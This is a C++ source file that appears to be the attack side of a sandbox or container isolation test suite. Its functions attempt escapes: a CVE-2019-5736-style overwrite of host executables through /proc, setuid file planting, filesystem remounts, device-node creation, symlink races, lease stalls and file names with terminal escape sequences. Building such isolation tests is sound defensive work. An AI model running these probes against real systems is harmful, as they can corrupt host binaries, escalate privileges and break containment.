// SPDX-License-Identifier: Apache-2.0
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <initializer_list>
#include <string>
#include <tuple>

namespace attack {
namespace {

void show(int fd)
{
    char part[65536];
    const ssize_t n = ::read(fd, part, sizeof part);
    if (n > 0)
        say(part, static_cast<std::size_t>(n));
}

void readFiles(Words words)
{
    for (int i = 0; i < words.count; ++i) {
        const int fd = ::open(words.at(i), O_RDONLY);
        if (fd >= 0)
            show(fd);
        ::close(fd);
    }
}

// Whatever was left open by who started us, also through /proc.
void readDescriptors(Words)
{
    for (int fd = 3; fd < 1024; ++fd) {
        if (::fcntl(fd, F_GETFD) < 0)
            continue;
        char part[4096];
        const ssize_t n = ::pread(fd, part, sizeof part, 0);
        if (n > 0)
            say(part, static_cast<std::size_t>(n));
        const std::string path = "/proc/self/fd/" + std::to_string(fd);
        const int again = ::open(path.c_str(), O_RDONLY | O_NONBLOCK);
        if (again >= 0)
            show(again);
        ::close(again);
    }
}

void createFiles(Words words)
{
    for (int i = 0; i < words.count; ++i)
        ::close(::open(words.at(i), O_WRONLY | O_CREAT | O_EXCL, 0600));
}

void writeThroughLink(Words words)
{
    ::unlink("way-out");
    if (::symlink(words.at(0), "way-out") < 0)
        return;
    const int fd = ::open("way-out", O_WRONLY | O_CREAT, 0600);
    ::dprintf(fd, "%s", token);
    ::close(fd);
}

// Opens for writing and writes nothing: the host sees the descriptor, and nothing is broken where it works.
void openForWriting(Words words)
{
    for (int i = 0; i < words.count; ++i)
        ::open(words.at(i), O_WRONLY);
}

void execute(Words words)
{
    say("ready\n");
    ::execv(words.at(0), words.first);
}

void leaveFiles(Words words)
{
    for (int i = 1; i < words.count; ++i) {
        const std::string path = std::string(words.at(i)) + "/" + words.at(0);
        const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT, 0666);
        ::dprintf(fd, "%s", words.at(0));
        ::close(fd);
    }
}

void listFolders(Words words)
{
    for (int i = 0; i < words.count; ++i) {
        DIR *folder = ::opendir(words.at(i));
        while (const dirent *entry = folder ? ::readdir(folder) : nullptr) {
            say(entry->d_name);
            say("\n");
        }
        if (folder)
            ::closedir(folder);
    }
}

void changeMounts(Words)
{
    ::mount(nullptr, "/usr", nullptr, MS_REMOUNT | MS_BIND, nullptr);
    ::mount("none", "/", nullptr, MS_REC | MS_SHARED, nullptr);
    ::umount2("/proc", MNT_DETACH);
    ::mount("/tmp", "/usr", nullptr, MS_BIND, nullptr);
    ::mount("none", "/tmp", "tmpfs", 0, nullptr);
}

void makeDevice(Words)
{
    ::mknod("disk", S_IFBLK | 0600, makedev(8, 0));
    ::mknod("memory", S_IFCHR | 0600, makedev(1, 1));
}

// CVE-2019-5736: opened while it runs, written when it doesn't. Every process that can be seen is tried.
void overwritePrograms(Words words)
{
    const int limit = words.count > 0 ? static_cast<int>(words.number(0)) : 64;
    int kept[128];
    int count = 0;
    for (int pid = words.count > 0 ? limit : 1; pid <= limit && count < 120; ++pid) {
        for (const char *name : {"exe", "cwd/../proc/self/exe", "root/proc/1/exe"}) {
            const std::string path = "/proc/" + std::to_string(pid) + "/" + name;
            if (const int fd = ::open(path.c_str(), O_RDONLY); fd >= 0)
                kept[count++] = fd;
        }
    }
    if (words.count > 0) { // the control's stand-in for a launcher
        ::kill(limit, SIGKILL);
        ::usleep(100'000);
    }
    for (int i = 0; i < count; ++i) {
        const std::string path = "/proc/self/fd/" + std::to_string(kept[i]);
        for (int flags : {O_WRONLY | O_APPEND, O_RDWR | O_TRUNC}) {
            const int fd = flags & O_TRUNC && words.count > 0 ? -1 : ::open(path.c_str(), flags);
            if (fd >= 0 && ::write(fd, token, std::strlen(token)) > 0)
                ::fsync(fd);
            ::close(fd);
        }
    }
}

// Holding a lease, it makes everybody who opens the file wait for lease-break-time.
void takeLease(Words words)
{
    for (int kind : {F_WRLCK, F_RDLCK}) {
        const int fd = ::open(words.at(0), O_RDONLY);
        ::signal(SIGIO, SIG_IGN);
        if (::fcntl(fd, F_SETLEASE, kind) == 0)
            return;
    }
}

// A read-only mount doesn't keep anybody from writing into a FIFO that lies in it.
void writeFifo(Words words)
{
    const int fd = ::open(words.at(0), O_WRONLY | O_NONBLOCK);
    ::dprintf(fd, "%s", token);
    ::close(fd);
}

void plantSetId(Words words)
{
    const std::string path = std::string(words.at(0)) + "/" + token;
    const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT, 06755);
    ::close(fd);
    ::chmod(path.c_str(), 06755);
    ::syscall(SYS_fchmodat, AT_FDCWD, path.c_str(), 06755);
    ::syscall(452, AT_FDCWD, path.c_str(), 06755, 0); // fchmodat2
}

// Leaves things that a collector might follow, wait for, or show.
void leaveTraps(Words words)
{
    std::ignore = ::symlink(words.at(0), "link");
    std::ignore = ::link(words.at(0), "hard");
    std::ignore = ::symlink("..", "up");
    ::mkfifo("pipe", 0600);
    for (const char *name : {"new\nline", "escape\033]52;c;x\007", "..."}) {
        const int fd = ::open(name, O_WRONLY | O_CREAT, 0600);
        ::dprintf(fd, "%s", token);
        ::close(fd);
    }
}

// Goes on when its parent has ended, for three seconds: now a file, now a link.
void swapLinks(Words words)
{
    if (::fork() != 0)
        return;
    ::setsid();
    for (const time_t end = ::time(nullptr) + 3; ::time(nullptr) < end;) {
        std::ignore = ::symlink(words.at(0), "next");
        ::rename("next", "swapped");
        ::close(::open("next", O_WRONLY | O_CREAT | O_TRUNC, 0600));
        ::rename("next", "swapped");
    }
    ::_exit(0);
}

} // namespace

const Deed fileDeeds[] = {
    {"read", readFiles},
    {"read-descriptors", readDescriptors},
    {"create", createFiles},
    {"write-through-link", writeThroughLink},
    {"open-for-writing", openForWriting},
    {"execute", execute},
    {"leave", leaveFiles},
    {"leave-traps", leaveTraps},
    {"swap-links", swapLinks},
    {"list", listFolders},
    {"change-mounts", changeMounts},
    {"make-device", makeDevice},
    {"overwrite-programs", overwritePrograms},
    {"lease", takeLease},
    {"fifo", writeFifo},
    {"plant-set-id", plantSetId},
    {nullptr, nullptr},
};

} // namespace attack
